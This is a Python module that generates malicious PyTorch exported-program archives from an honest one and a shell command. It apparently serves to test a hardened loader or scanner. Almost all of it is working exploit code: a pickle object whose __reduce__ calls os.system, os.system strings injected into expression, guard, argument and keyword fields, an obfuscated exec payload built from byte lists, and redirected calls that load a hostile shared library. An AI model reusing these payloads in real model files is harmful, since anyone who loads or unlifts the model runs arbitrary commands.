"""Exported programs that run code where torch alone loads, unlifts or calls them.

Each takes the parts of an honest archive (name inside it -> content) and the shell command or
module of the attack.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

Parts = dict[str, bytes]
MODEL, WEIGHTS = "models/model.json", "data/weights/model_weights_config.json"
CONSTANTS, SAMPLE = "data/constants/model_constants_config.json", "data/sample_inputs/model.pt"


class Runs:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def opaque_object(parts: Parts, command: str, folder: str) -> None:
    """Found in any case, unpickled by its name alone."""
    weight = next(iter(json.loads(parts[WEIGHTS])["config"].values()))
    held = json.loads(parts[CONSTANTS])
    weight["tensor_meta"] |= {"dtype": 1, "requires_grad": False}
    held["config"]["x"] = {**weight, "path_name": "opaque_obj_0", "is_param": False}
    parts[CONSTANTS] = json.dumps(held).encode()
    parts[f"data/constants/{folder}"] = pickle.dumps(Runs(command), protocol=2)


def sample_inputs(parts: Parts, command: str) -> None:
    content = io.BytesIO()
    torch.save(Runs(command), content, _use_new_zipfile_serialization=False)
    del parts[SAMPLE]
    parts[SAMPLE.upper().replace("DATA/SAMPLE_INPUTS/MODEL", "data/sample_inputs/model")] = (
        content.getvalue()
    )


def expression(parts: Parts, command: str) -> None:
    held = json.loads(parts.pop(MODEL))
    _model_sizes(held, f"__import__('os').system('{command}')")
    parts["models/model.abcd"] = json.dumps(held).encode()


def _model_sizes(item: Any, text: str) -> None:
    if isinstance(item, dict):
        if "expr_str" in item:
            item["expr_str"] = text
        for value in item.values():
            _model_sizes(value, text)
    for value in item if isinstance(item, list) else ():
        _model_sizes(value, text)


def _changed(change: Callable[[dict[str, Any], str], None]) -> Callable[[Parts, str], None]:
    def attack(parts: Parts, command: str) -> None:
        held = json.loads(parts[MODEL])
        change(held, command)
        parts[MODEL] = json.dumps(held).encode()

    return attack


def enum(held: dict[str, Any], _: str) -> None:
    """Its module is imported; escapes in JSON within JSON hide the word."""
    signature = held["graph_module"]["module_call_graph"][0]["signature"]
    spec = json.loads(signature["in_spec"])
    context = json.dumps([{"__enum__": 1, "fqn": "hostile_module:E", "name": "A"}])
    spec[1]["children_spec"][1]["context"] = context.replace("_", "\\u005f")
    signature["in_spec"] = json.dumps(spec)


def autograd(held: dict[str, Any], _: str) -> None:
    called = "torch.export.custom_ops._call_custom_autograd_function_in_pre_dispatch"
    _call(held, called, {"as_string": "hostile_module.F"})


def library(held: dict[str, Any], _: str) -> None:
    _call(held, "torch.ops.load_library", {"as_string": "hostile.so"})


def library_by_attributes(held: dict[str, Any], _: str) -> None:
    _call(held, "torch.ops.import_module.__self__.load_library", {"as_string": "hostile.so"})


def operator_call(held: dict[str, Any], _: str) -> None:
    _call(held, "_operator.methodcaller", {"as_string": "tolist"})


def file_operator(held: dict[str, Any], _: str) -> None:
    _call(held, "torch.ops.aten.from_file.default", {"as_string": "hostile.bin"})


def jit_operator(held: dict[str, Any], _: str) -> None:
    _call(held, "torch.ops.aten.save.default", {"as_string": "hostile.bin"})


def _call(held: dict[str, Any], target: str, first: dict[str, Any]) -> None:
    node = held["graph_module"]["graph"]["nodes"][1]
    node["target"] = target
    node["inputs"].insert(0, {"name": "", "arg": first, "kind": 1})


def guards(held: dict[str, Any], command: str) -> None:
    held["guards_code"] = [f"__import__('os').system('{command}') == 0"]


def argument_name(held: dict[str, Any], command: str) -> None:
    """It becomes source code, where it does not stand up as written; another might."""
    signature = held["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = [f"x=__import__('os').system('{command}')"]


def keyword_name(held: dict[str, Any], command: str) -> None:
    signature = held["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = None
    spec = json.loads(signature["in_spec"])
    text = json.dumps([f"x=__import__('os').system('{command}')"])
    spec[1]["children_spec"][1]["context"] = text
    signature["in_spec"] = json.dumps(spec)


def _bare(command: str) -> str:
    """It runs `command` by brackets, names and numbers alone, wherever it is evaluated."""
    code = f"import os; os.system({command!r})".encode()
    text = (
        f"A.B[A.C[[{', '.join(map(str, code))}]]] for A.B.__class_getitem__ in [exec] "
        "for A.C.__class_getitem__ in [bytes]"
    )
    return text.replace("A.B", "torch.nn.Identity").replace("A.C", "torch.nn.Flatten")


def surplus_name(held: dict[str, Any], command: str) -> None:
    """An annotation of a name that the call does not need."""
    signature = held["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = ["x", f"*z: [{_bare(command)}]"]


def input_name(held: dict[str, Any], command: str) -> None:
    """An index of what the generated source assigns to."""
    old = held["graph_module"]["graph"]["inputs"][-1]["as_tensor"]["name"]
    _renamed(held, old, f"{old}[[{_bare(command)}]]")
    signature = held["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = [old]


def switch_keyword(held: dict[str, Any], command: str) -> None:
    """An argument before the name of an argument."""
    held["graph_module"]["graph"]["nodes"].insert(0, {
        "target": "torch._C._set_grad_enabled", "outputs": [{"as_none": True}], "metadata": {},
        "name": "switch",
        "inputs": [{"name": f"*[{_bare(command)}], z", "arg": {"as_bool": False}, "kind": 2}],
    })  # fmt: skip


def _renamed(item: Any, old: str, new: str) -> None:
    parts = item.items() if isinstance(item, dict) else enumerate(item)
    for key, value in list(parts):
        if value == old and not (isinstance(item, dict) and "kind" in item):  # of an operator's own
            item[key] = new
        elif isinstance(value, (dict, list)):
            _renamed(value, old, new)
    if isinstance(item, dict) and old in item:
        item[new] = item.pop(old)


# By name: the attack, and whether torch alone falls to it on loading and `.module()`.
ATTACKS: dict[str, tuple[Callable[[Parts, str], None], bool]] = {
    "opaque object": (lambda p, c: opaque_object(p, c, "opaque_obj_0"), True),
    "opaque object in capitals": (lambda p, c: opaque_object(p, c, "OPAQUE_OBJ_0"), True),
    "sample inputs in capitals": (sample_inputs, True),
    "expression": (expression, True),
    "enum": (_changed(enum), True),
    "autograd": (_changed(autograd), False),
    "library": (_changed(library), False),
    "library by attributes": (_changed(library_by_attributes), False),
    "operator call": (_changed(operator_call), False),
    "file operator": (_changed(file_operator), False),
    "jit operator": (_changed(jit_operator), False),
    "guards": (_changed(guards), True),
    "argument name": (_changed(argument_name), False),
    "keyword name": (_changed(keyword_name), False),
    "surplus name": (_changed(surplus_name), True),
    "input name": (_changed(input_name), False),
    "switch keyword": (_changed(switch_keyword), True),
}


def hostile(honest: Path, path: Path, attack: str, command: str) -> Path:
    """`honest` with the attack in it, written to `path`."""
    with zipfile.ZipFile(honest) as old:
        parts = {n.partition("/")[2]: old.read(n) for n in old.namelist()}
    ATTACKS[attack][0](parts, command)
    with zipfile.ZipFile(path, "w") as new:
        for name, content in parts.items():
            new.writestr(f"m/{name}", content)
    return path
